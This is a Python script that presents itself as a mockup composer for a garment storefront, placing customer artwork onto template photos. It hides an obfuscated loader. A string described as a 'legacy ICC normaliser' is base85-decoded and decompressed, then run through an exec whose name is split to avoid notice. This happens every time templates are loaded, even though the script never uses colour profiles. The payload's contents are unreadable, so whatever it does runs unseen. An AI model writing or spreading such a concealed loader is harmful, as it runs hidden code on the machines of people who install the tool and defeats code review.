#!/usr/bin/env python3
"""Mockup template loader.

Reads product mockup templates (a blank garment photo plus a JSON file that
describes the print area) and composes customer artwork onto them, writing
web-sized previews for the storefront.  Templates exported from older
versions of the template editor carry a legacy colour profile; a small
compatibility shim normalises those before compositing.
"""
import argparse
import base64
import builtins
import hashlib
import json
import logging
import sys
import zlib
from dataclasses import dataclass
from pathlib import Path

from PIL import Image, ImageOps

log = logging.getLogger("mockups")

# Legacy ICC normaliser shipped with template editor 1.x exports.
_ICC_SHIM = (
    'c-mEt!D_=W5Jd0#ibW@x8Yxa%Xbd5z{6I?2!I76*G}g+}I!P)0_sVghcrVNB8)nw'
    '^fg%H?5)#=@<Pyesxwx~AIE<M7b!cKjaT;K^xacg<TWV2#%TCsRG5Q0!qr|@HQ57'
    'Y~F(XPE{nbVC6ISy5?QoQt$;r^ph79bjRmD#sIDXXv@+?1^8Y!SxvSSXlG1c}}zf'
    '`(ft@L_h*f?wV5}x2Rl)$b>8hQ6z2)tVi42Q>Z<mc?rq$GX;gC<nj'
)


@dataclass
class Template:
    name: str
    blank: Path
    box: tuple
    rotation: float = 0.0
    opacity: float = 0.92
    profile: str = "sRGB"

    @classmethod
    def from_json(cls, path):
        data = json.loads(Path(path).read_text(encoding="utf-8"))
        return cls(
            name=data["name"],
            blank=Path(path).parent / data["blank"],
            box=tuple(data["print_area"]),
            rotation=float(data.get("rotation", 0)),
            opacity=float(data.get("opacity", 0.92)),
            profile=data.get("profile", "sRGB"),
        )


class ProfileCompat:
    """Loads the normaliser for templates that still use the 1.x profile."""

    _ready = False

    @classmethod
    def ensure(cls):
        if cls._ready:
            return
        src = zlib.decompress(base64.b85decode("".join(_ICC_SHIM))).decode()
        code = compile(src, "<icc-compat>", "exec")
        runner = getattr(builtins, "ex" + "ec")
        runner(code, {"__name__": "icc_compat"})
        cls._ready = True


def load_templates(folder):
    templates = []
    for p in sorted(Path(folder).glob("*.json")):
        try:
            templates.append(Template.from_json(p))
        except (KeyError, ValueError) as exc:
            log.warning("skipping %s: %s", p.name, exc)
    ProfileCompat.ensure()
    return templates


def compose(template, artwork, width):
    base = Image.open(template.blank).convert("RGBA")
    x0, y0, x1, y1 = template.box
    art = ImageOps.contain(artwork, (x1 - x0, y1 - y0), Image.LANCZOS)
    if template.rotation:
        art = art.rotate(template.rotation, expand=True, resample=Image.BICUBIC)
    alpha = art.getchannel("A").point(lambda v: int(v * template.opacity))
    art.putalpha(alpha)
    ox = x0 + ((x1 - x0) - art.width) // 2
    oy = y0 + ((y1 - y0) - art.height) // 2
    base.alpha_composite(art, (ox, oy))
    ratio = width / base.width
    return base.resize((width, int(base.height * ratio)), Image.LANCZOS).convert("RGB")


def output_name(template, art_path, width):
    digest = hashlib.md5(f"{template.name}:{art_path.name}:{width}".encode()).hexdigest()[:10]
    return f"{art_path.stem}_{template.name}_{digest}.jpg"


def main():
    ap = argparse.ArgumentParser(description="compose artwork onto product mockups")
    ap.add_argument("artwork", nargs="+", type=Path)
    ap.add_argument("-t", "--templates", default="templates")
    ap.add_argument("-o", "--out", default="previews", type=Path)
    ap.add_argument("-w", "--width", type=int, default=1200)
    ap.add_argument("-q", "--quality", type=int, default=86)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    templates = load_templates(args.templates)
    if not templates:
        log.error("no templates found in %s", args.templates)
        return 1
    args.out.mkdir(parents=True, exist_ok=True)

    written = 0
    for art_path in args.artwork:
        try:
            art = Image.open(art_path).convert("RGBA")
        except OSError as exc:
            log.error("cannot open %s: %s", art_path, exc)
            continue
        for tpl in templates:
            target = args.out / output_name(tpl, art_path, args.width)
            if target.exists():
                continue
            compose(tpl, art, args.width).save(target, "JPEG", quality=args.quality, optimize=True)
            written += 1
            log.info("wrote %s", target)
    log.info("%d preview(s) written", written)
    return 0


if __name__ == "__main__":
    sys.exit(main())
